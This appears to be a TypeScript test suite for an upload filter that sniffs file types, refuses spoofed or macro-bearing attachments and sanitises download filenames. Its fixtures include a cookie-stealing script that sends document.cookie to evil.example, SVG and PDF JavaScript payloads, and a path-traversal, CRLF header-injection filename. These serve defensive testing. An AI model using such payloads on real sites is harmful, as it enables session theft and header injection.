import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { Document, Packer, Paragraph } from 'docx';
import { contentDisposition, extensionOf, sniffAttachment, zipEntryNames } from './filetype.ts';

// --- fixtures built in code -------------------------------------------------------------------

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** A ZIP with stored (uncompressed) entries, enough for an OOXML package. */
function makeZip(entries: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(entries)) {
    const nameBuf = Buffer.from(name, 'utf8');
    const data = Buffer.from(text, 'utf8');
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBuf.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBuf.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBuf, data);
    centrals.push(central, nameBuf);
    offset += 30 + nameBuf.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(Object.keys(entries).length, 8);
  eocd.writeUInt16LE(Object.keys(entries).length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

const XLSX_CT = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const DOCX_CT = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const contentTypes = (part: string, type: string) =>
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  `<Override PartName="/${part}" ContentType="${type}"/></Types>`;

function makeXlsx(extra: Record<string, string> = {}): Buffer {
  return makeZip({
    '[Content_Types].xml': contentTypes('xl/workbook.xml', XLSX_CT),
    '_rels/.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
    'xl/workbook.xml': '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="表1" sheetId="1"/></sheets></workbook>',
    'xl/worksheets/sheet1.xml': '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>',
    ...extra,
  });
}

async function makeDocx(): Promise<Buffer> {
  const doc = new Document({ sections: [{ children: [new Paragraph('朝阳市2020年政务公开工作要点')] }] });
  return Packer.toBuffer(doc);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}
function makePng(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1, 0);
  ihdr.writeUInt32BE(1, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 255, 0, 0]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n', 'latin1');
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]), Buffer.alloc(64), Buffer.from([0xff, 0xd9])]);
const GIF = Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.from([1, 0, 1, 0, 0, 0, 0, 0x3b])]);
const WEBP = Buffer.concat([Buffer.from('RIFF', 'latin1'), Buffer.from([26, 0, 0, 0]), Buffer.from('WEBPVP8 ', 'latin1'), Buffer.alloc(18)]);
const EXE = Buffer.concat([Buffer.from('MZ', 'latin1'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0', 'latin1'), Buffer.alloc(200)]);
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>');
const CFB = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1024)]);

// --- accepted ---------------------------------------------------------------------------------

test('real small files of every allowed kind are accepted, with mime, canonical ext and sha256', async () => {
  const cases: Array<[Buffer, string, string, string]> = [
    [PDF, '朝阳市政务公开工作要点.pdf', 'pdf', 'application/pdf'],
    [await makeDocx(), '通知.docx', 'docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    [makeXlsx(), '统计表.XLSX', 'xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    [makePng(), '图解.png', 'png', 'image/png'],
    [JPEG, '照片.jpeg', 'jpeg', 'image/jpeg'],
    [JPEG, '照片.jpg', 'jpeg', 'image/jpeg'],
    [GIF, 'a.gif', 'gif', 'image/gif'],
    [WEBP, 'a.webp', 'webp', 'image/webp'],
  ];
  for (const [buf, name, kind, mime] of cases) {
    const r = await sniffAttachment(buf, name);
    assert.equal(r.ok, true, `${name}: ${JSON.stringify(r)}`);
    if (!r.ok) continue;
    assert.equal(r.kind, kind);
    assert.equal(r.mime, mime);
    assert.equal(r.size, buf.length);
    assert.equal(r.sha256, createHash('sha256').update(buf).digest('hex'));
  }
  const jpg = await sniffAttachment(JPEG, 'x.jpeg');
  assert.ok(jpg.ok && jpg.ext === 'jpg');
});

test('a hand-made DOCX package (not from the docx library) is accepted too', async () => {
  const docx = makeZip({
    '[Content_Types].xml': contentTypes('word/document.xml', DOCX_CT),
    '_rels/.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
    'word/document.xml': '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
  });
  const r = await sniffAttachment(docx, '文档.docx');
  assert.ok(r.ok && r.kind === 'docx', JSON.stringify(r));
  const spoof = await sniffAttachment(docx, '表格.xlsx');
  assert.ok(!spoof.ok && spoof.code === 'extension_mismatch');
});

test('our own ZIP reading tells DOCX from XLSX', async () => {
  assert.ok(zipEntryNames(await makeDocx())!.includes('word/document.xml'));
  assert.ok(zipEntryNames(makeXlsx())!.includes('xl/workbook.xml'));
  assert.equal(zipEntryNames(PDF), null);
});

// --- refused ----------------------------------------------------------------------------------

test('spoofed files are refused by content', async () => {
  const docx = await makeDocx();
  const cases: Array<[Buffer, string, string]> = [
    [HTML, '文件.pdf', 'unrecognised_content'],
    [EXE, '文件.pdf', 'content_not_allowed'],
    [EXE, 'setup.exe', 'extension_not_allowed'],
    [makePng(), '文件.pdf', 'extension_mismatch'],
    [PDF, '图片.png', 'extension_mismatch'],
    [docx, '表格.xlsx', 'extension_mismatch'],
    [makeXlsx(), '文档.docx', 'extension_mismatch'],
    [makeZip({ 'a.txt': 'hello' }), '文档.docx', 'content_not_allowed'],
    [makeXlsx({ 'xl/vbaProject.bin': 'macro' }), '宏.xlsx', 'office_macro'],
    [makeXlsx({ 'word/document.xml': '<w:document/>' }), '混合.xlsx', 'office_ambiguous'],
    [Buffer.from('just some text'), 'readme.pdf', 'unrecognised_content'],
    [Buffer.from('<svg onload="alert(1)"/>'), 'logo.png', 'unrecognised_content'],
    [PDF, 'noextension', 'no_extension'],
    [PDF, 'page.html', 'extension_not_allowed'],
    [Buffer.alloc(0), 'empty.pdf', 'empty'],
  ];
  for (const [buf, name, code] of cases) {
    const r = await sniffAttachment(buf, name);
    assert.equal(r.ok, false, name);
    if (r.ok) continue;
    assert.equal(r.code, code, `${name}: ${r.message.en}`);
    assert.ok(r.message.zh && r.message.en);
  }
});

test('a legacy .doc renamed .docx is refused', async () => {
  const r = await sniffAttachment(CFB, '旧文件.docx');
  assert.equal(r.ok, false);
});

test('HTML disguised as PDF gets a message that says it is a web page', async () => {
  const r = await sniffAttachment(HTML, '文件.pdf');
  assert.ok(!r.ok && r.message.zh.includes('网页'));
  const e = await sniffAttachment(EXE, '文件.pdf');
  assert.ok(!e.ok && e.message.zh.includes('可执行程序'));
});

test('size limit', async () => {
  const r = await sniffAttachment(PDF, 'a.pdf', { maxBytes: 50 });
  assert.ok(!r.ok && r.code === 'too_large');
  const ok = await sniffAttachment(PDF, 'a.pdf', { maxBytes: PDF.length });
  assert.ok(ok.ok);
});

test('a PDF with JavaScript is accepted with a warning', async () => {
  const js = Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n', 'latin1');
  const r = await sniffAttachment(js, 'a.pdf');
  assert.ok(r.ok && r.warnings.length === 1);
  const clean = await sniffAttachment(PDF, 'a.pdf');
  assert.ok(clean.ok && clean.warnings.length === 0);
});

// --- names and downloads ----------------------------------------------------------------------

test('extensionOf', () => {
  assert.equal(extensionOf('C:\\fakepath\\报告.PDF'), 'pdf');
  assert.equal(extensionOf('a.tar.gz'), 'gz');
  assert.equal(extensionOf('.bashrc'), '');
  assert.equal(extensionOf('noext'), '');
  assert.equal(extensionOf('trailing.'), '');
});

test('contentDisposition: RFC 5987 filename* for Chinese names with an ASCII fallback', () => {
  assert.equal(
    contentDisposition('朝阳市2020年政务公开工作要点.pdf'),
    `attachment; filename="___2020_________.pdf"; filename*=UTF-8''${encodeURIComponent('朝阳市2020年政务公开工作要点.pdf')}`,
  );
  assert.equal(contentDisposition('通知.docx'), `attachment; filename="download.docx"; filename*=UTF-8''%E9%80%9A%E7%9F%A5.docx`);
  assert.equal(contentDisposition('report (final)*.pdf', 'inline'), `inline; filename="report (final)*.pdf"; filename*=UTF-8''report%20%28final%29%2A.pdf`);
  // Header injection and path parts are removed.
  const evil = contentDisposition('../../etc/pa"ss\r\nSet-Cookie: a=b.pdf');
  assert.doesNotMatch(evil, /[\r\n]/);
  assert.match(evil, /^attachment; filename="passSet-Cookie: a=b.pdf"; filename\*=UTF-8''passSet-Cookie%3A%20a%3Db.pdf$/);
});
